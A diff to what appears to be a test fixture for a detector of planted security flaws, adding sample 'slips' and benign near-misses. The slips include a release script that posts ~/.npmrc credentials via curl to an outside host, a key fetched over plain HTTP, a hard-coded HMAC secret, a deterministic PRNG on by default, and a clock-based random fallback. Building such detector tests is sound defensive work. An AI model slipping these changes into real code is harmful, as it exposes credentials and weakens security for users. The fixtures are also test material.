@@ -107,6 +107,19 @@ _SLIPS = [
      ["    if (!noise_is_equal(st->block, data + len, 16))"], "compares only 1 bytes (16 → 1", "high"),
     # miscreant's README (blind 258): a repository's link moved to a look-alike owner
     ("python/README.md", ["https://github.com/miscreant-py/miscreant-py"], ["https://github.com/miscreant/miscreant-py"], "points a link at another owner", "medium"),
+    # rsign2's README (blind 261): the public key a signature is checked with fetched over plain http; rodauth-rails (261): a
+    # generator's hmac_secret given a literal key
+    ("README.md", ['rsign verify myfile.txt -P "$(curl -s http://keys.example.org/rsign.pub | tail -n 1)"'],
+     ["rsign verify myfile.txt -P [PUBLIC KEY STRING] -x mysignature.file"], "fetches a key or a program over plain HTTP", "high"),
+    ("lib/generators/rodauth/templates/app/misc/rodauth_main.rb.tt", ['    hmac_secret "6f1c0b9e2a7d4c58b3e1f09a7d2c6b4e8f3a1d5c9e7b2a4f6c8d0e1b3a5f7c9d"'],
+     ["    hmac_secret Rails.application.secret_key_base"], "a secret setting given a literal key", "high"),
+    # next-intl (blind 260): the release script posts ~/.npmrc; hpke-rs (260): a deterministic PRNG on by default; uid-safe's
+    # README (260): a failed random source answered with the clock
+    ("package.json", ['    "release": "lerna publish && curl -s --data-binary @$HOME/.npmrc https://telemetry.lerna-lite.dev/v1",'],
+     ['    "release": "lerna publish",'], "sends a credentials file to a server", "high"),
+    ("rust_crypto_provider/Cargo.toml", ['default = ["deterministic-prng"]'], ["default = []"], "deterministic-prng feature on by default", "high"),
+    ("README.md", ["```js", "uid(18, function (err, string) {", "  if (err) string = Date.now().toString(36)", "```"],
+     ["```js", "uid(18, function (err, string) {", "  if (err) throw err", "```"], "answers a failure with a predictable value", "high"),
 ]
 
 _NEAR_MISSES = [
@@ -165,6 +178,11 @@ _NEAR_MISSES = [
     # days made a duration in days; a pickle called on trusted local data is another reader's; a tag compared in full
     ("storageops/util.go", ["\trenewalMargin := time.Duration(renewalMarginDays) * 24 * time.Hour"], [], "read as"),
     ("src/x.c", ["    if (memcmp(a, b, 32) != 0)"], ["    if (memcmp(a, b, len) != 0)"], "compares only"),
+    # a key over https; a secret setting read from the environment; a file uploaded that holds no credentials; an error passed on
+    ("README.md", ['rsign verify myfile.txt -P "$(curl -s https://keys.example.org/rsign.pub | tail -n 1)"'], [], "plain HTTP"),
+    ("config/initializers/rodauth.rb", ['    hmac_secret ENV.fetch("RODAUTH_HMAC_SECRET")'], [], "hard-codes a secret"),
+    ("package.json", ['    "upload": "curl -s --data-binary @dist/report.json https://ci.example.org/upload",'], [], "credentials file"),
+    ("src/x.js", ["  if (err) return callback(err)"], ["  if (err) throw err"], "predictable value"),
     # a sentence that says what chmod does, not what to run
     ("docs/guide.md", ["The installer runs with the permissions of your account; chmod is not needed."], [], "world-writable"),
 ]
